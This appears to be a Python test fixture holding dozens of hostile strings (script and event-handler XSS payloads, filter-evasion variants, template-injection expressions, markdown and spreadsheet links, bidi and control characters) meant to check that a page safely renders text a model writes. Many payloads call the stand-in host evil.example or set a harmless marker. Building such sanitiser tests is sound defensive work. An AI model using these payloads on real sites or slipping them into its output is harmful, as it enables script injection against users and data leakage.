"""Texts that a model might write and that a careless page would run, fetch or garble.

All are data. A payload that runs sets `MARKER` on `window`; `HOST` is the host that payloads would
contact.
"""

MARKER = "pwned"
HOST = "evil.example"
_SET = f"window.{MARKER}=1"
_URL = f"https://{HOST}/x"

_ELEMENTS = [
    f"<script>{_SET}</script>",
    f"<SCRIPT SRC={_URL}.js></SCRIPT>",
    f"<scr<script>ipt>{_SET}</scr</script>ipt>",
    f"<img src=x onerror={_SET}>",
    f"<img src={_URL}.png>",
    f"<img srcset='{_URL}.png 2x'>",
    f"<IMG SRC=javascript:{_SET}>",
    f'<img """><script>{_SET}</script>">',
    f"<svg onload={_SET}>",
    f"<svg><a xlink:href='javascript:{_SET}'><text y='20'>x</text></a></svg>",
    f"<svg><animate onbegin={_SET} attributeName=x dur=1s>",
    f"<svg><use href='{_URL}.svg#x'/></svg>",
    f"<svg><style>@import '{_URL}.css';</style></svg>",
    f"<svg><foreignObject><iframe src='javascript:{_SET}'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror={_SET}></style></mglyph></table></mtext>"
    "</math>",
    f"<iframe src='javascript:{_SET}'></iframe>",
    f"<iframe srcdoc='<script>parent.{MARKER}=1</script>'></iframe>",
    f"<object data='javascript:{_SET}'></object>",
    f"<body onload={_SET}>",
    f"<video poster='{_URL}.png'></video>",
    f"<input autofocus onfocus={_SET}>",
    f"<button autofocus onfocus={_SET} formaction=javascript:{_SET}>press</button>",
    f"<details open ontoggle={_SET}>",
    f"<form action='{_URL}'><input type=submit></form>",
    f"<a href='javascript:{_SET}'>press me</a>",
    f"<a href='jav&#x09;ascript:{_SET}'>press me</a>",
    f"<a href='data:text/html,<script>{_SET}</script>'>x</a>",
    f"<a href='{_URL}' ping='{_URL}'>x</a>",
    f"<base href='{_URL}/'>",
    f"<link rel=stylesheet href='{_URL}.css'>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>",
    f"<meta http-equiv='Set-Cookie' content='szpo={MARKER}'>",
    f"<style>@import url('{_URL}.css');</style>",
    f"<div style='background:url({_URL}.png)'>x</div>",
    f"<p onmouseover={_SET} style='position:fixed;inset:0;z-index:99999'>x</p>",
    f"<noscript><p title='</noscript><img src=x onerror={_SET}>'>",
    f"<!--><img src=x onerror={_SET}>-->",
    "<img src=x onerror=eval(atob('d2luZG93LnB3bmVkPTE='))>",
]
_BREAKING_OUT = [
    f"</textarea><script>{_SET}</script>",
    f"</script><script>{_SET}</script>",
    f"</div></section></main><img src=x onerror={_SET}>",
    f'"><img src=x onerror={_SET}>',
    f"` onmouseover={_SET} `",
    f"' onclick={_SET} x='",
    f"--><script>{_SET}</script><!--",
    f'\\"><script>{_SET}</script>',
    f"\\u003cscript\\u003e{_SET}\\u003c/script\\u003e",
    f"&lt;script&gt;{_SET}&lt;/script&gt;",
    f"%3Cscript%3E{_SET}%3C/script%3E",
    f"<\x00script>{_SET}</script>",
]
_TEMPLATES = [
    f"${{{_SET}}}",
    f"`+({_SET})+`",
    "{{constructor.constructor('return 1')()}}",
    f"{{{{{{raw}}}}}}<script>{_SET}</script>",
    "{{#each value}}{{this}}{{/each}}",
    "{% import os %}{{ os.system('true') }}",
    "#{7*7} <%= 7*7 %> @(7*7) [[7*7]]",
    "@children",
    "{value} {0} {name.__class__} %s %(x)s",
    "${value}",
]
_MARKUP = [
    f"![x]({_URL}.png)",
    f"[press](javascript:{_SET})",
    f"[press]({_URL})",
    f"<{_URL}>",
    f'[x]: {_URL} "title"',
    f"```html\n<script>{_SET}</script>\n```",
    f"$$\\href{{javascript:{_SET}}}{{x}}$$",
    f"\\includegraphics{{{_URL}.png}}",
    f'=HYPERLINK("{_URL}")',
]
_CHARACTERS = [
    "left \u202egnp.exe\u202c right",
    "isolate \u2066\u202e\u2067 end\u2069\u2069",
    "marks \u200e\u200f\u061c end",
    "nul \x00 escape \x1b[31m bell \x07 delete \x7f c1 \x85\x9b",
    "zero\u200bwidth\u2060joined\ufeff",
    "tags \U000e0068\U000e0069\U000e007f end",
    "lines\u2028and\u2029paragraphs",
    "half a pair \ud83d here",
    "z\u0341\u0321\u0322\u0327a\u0310\u0489l\u0341\u0322g\u0327o" * 4,
    "شكرا جزيلا <b>لك</b> ثم English",
    "emoji 👩\u200d👩\u200d👧 and नि\u200cन stay",
    "return\rcarriage\r\nboth",
    "tab\tand   spaces",
    "x" * 2000 + f"<img src=x onerror={_SET}>",
]
PAYLOADS: tuple[str, ...] = (*_ELEMENTS, *_BREAKING_OUT, *_TEMPLATES, *_MARKUP, *_CHARACTERS)
"""One or two of each way in."""
LONG = "word" * 50_000
"""One line of 200 kB."""
